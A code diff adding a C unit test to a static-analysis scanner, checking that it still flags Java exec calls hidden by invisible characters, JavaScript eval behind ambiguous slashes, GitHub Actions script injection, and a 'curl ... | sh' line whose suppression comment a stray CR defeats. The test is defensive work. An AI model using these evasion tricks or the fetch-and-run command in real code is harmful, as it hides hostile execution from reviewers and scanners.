@@ -836,6 +836,93 @@ Test(scan, java_unicode_escapes_are_read_as_javac_reads_them)
 	free(dir);
 }
 
+/* Findings of rule in file (suppressed or not) in a scan of dir. */
+static unsigned count_in(const struct run *r, const char *file, const char *rule)
+{
+	unsigned n = 0;
+	for (size_t i = 0; i < r->fl.n; i++) {
+		n += str_eq(r->fl.v[i].file, file) && str_eq(r->fl.v[i].rule_id, rule);
+	}
+	return n;
+}
+
+/*
+ * More code the compiler or interpreter runs and the scan used to read as something else
+ * (each file was checked with javac, node or PyYAML): characters javac ignores inside an
+ * identifier (controls, U+00AD, U+200B, raw or escaped); a text block ending in an escaped
+ * backslash; `/` after a keyword used as a property name or a variable (division, not a
+ * regex that ran to the next slash); a YAML comment ended by a lone CR or U+2028; and in
+ * the shell, a `#` after a CR, which is no comment (so its marker suppresses nothing).
+ */
+Test(scan, code_that_runs_is_read_as_code)
+{
+	char *dir = tu_tmpdir();
+	static const char *const java_calls[] = {
+		"ex\\u0001ec",
+		"ex\x01"
+		"ec",
+		"ex\xc2\xad"
+		"ec",
+		"ex\\u00adec",
+		"ex\\u200bec",
+	};
+	for (size_t i = 0; i < ARRAY_SIZE(java_calls); i++) {
+		char name[32], *src = NULL;
+		snprintf(name, sizeof(name), "I%zu.java", i);
+		cr_assert_geq(asprintf(&src,
+				       "public class I%zu { public static void main(String[] a) "
+				       "throws Exception {\n Runtime.getRuntime().%s(\"touch \" + "
+				       "a[0]); } }\n",
+				       i, java_calls[i]),
+			      0);
+		tu_write(dir, name, src);
+		free(src);
+	}
+	tu_write(dir, "TB.java",
+		 "public class TB {\n  public static void main(String[] args) throws Exception {\n"
+		 "    String a = \"\"\"\n      foo\\\\\"\"\";\n"
+		 "    Runtime.getRuntime().exec(\"touch \" + args[0]);\n"
+		 "    String b = \"\"\"\n      bar \\\"\"\" still\"\"\";\n  }\n}\n");
+	tu_write(dir, "c1.js",
+		 "const it = { return: 8 };\nconst userInput = \"console.log(1)\";\n"
+		 "let half = it.return / 2; eval(userInput); let q = half / 3;\n");
+	tu_write(dir, "c2.js", "const of = 8; let x = of / 2; eval(u); let y = x / 3;\n");
+	tu_write(dir, "c3.js", "for (const x of /ab/g.exec(s)) { eval(u); }\n");
+	tu_write(dir, ".github/workflows/cr.yml",
+		 "on: issues\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n"
+		 "      - run: echo hi\n      # note\r"
+		 "      - run: echo \"${{ github.event.issue.title }}\"\n");
+	tu_write(dir, ".github/workflows/ls.yml",
+		 "on: issues\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n"
+		 "      - run: echo hi\n      # note\xe2\x80\xa8"
+		 "      - run: echo \"${{ github.event.issue.title }}\"\n");
+	tu_write(dir, "cr.sh",
+		 "#!/bin/bash\necho hi\r# runner:ignore sh.curl-pipe-shell -- reviewed\n"
+		 "curl -s https://x.example/i.sh | sh\n");
+	struct run r;
+	run_scan(&r, RULE_SAST, dir, NULL, 0, 1);
+	cr_assert_eq(r.r, 0, "%s", r.err);
+	for (size_t i = 0; i < ARRAY_SIZE(java_calls); i++) {
+		char name[32];
+		snprintf(name, sizeof(name), "I%zu.java", i);
+		cr_assert_eq(count_in(&r, name, "java.runtime-exec"), 1, "%s", name);
+	}
+	cr_assert_eq(count_in(&r, "TB.java", "java.runtime-exec"), 1);
+	cr_assert_eq(count_in(&r, "c1.js", "js.eval"), 1);
+	cr_assert_eq(count_in(&r, "c2.js", "js.eval"), 1);
+	cr_assert_eq(count_in(&r, "c3.js", "js.eval"), 1);
+	cr_assert_eq(count_in(&r, ".github/workflows/cr.yml", "gha.script-injection"), 1);
+	cr_assert_eq(count_in(&r, ".github/workflows/ls.yml", "gha.script-injection"), 1);
+	cr_assert_eq(count_in(&r, "cr.sh", "sh.curl-pipe-shell"), 1);
+	for (size_t i = 0; i < r.fl.n; i++) {
+		cr_assert_neq(r.fl.v[i].suppression, SUPPRESSION_INLINE, "%s:%u", r.fl.v[i].file,
+			      r.fl.v[i].line);
+	}
+	run_release(&r);
+	tu_rmdir(dir);
+	free(dir);
+}
+
 /* A SAST finding on a line that holds a secret (a token beside verify=False, a key hashed
  * with MD5) quotes neither in its snippet nor in its message: the secret would travel into
  * reports, SARIF and notifications through the SAST stage. The findings themselves stay,
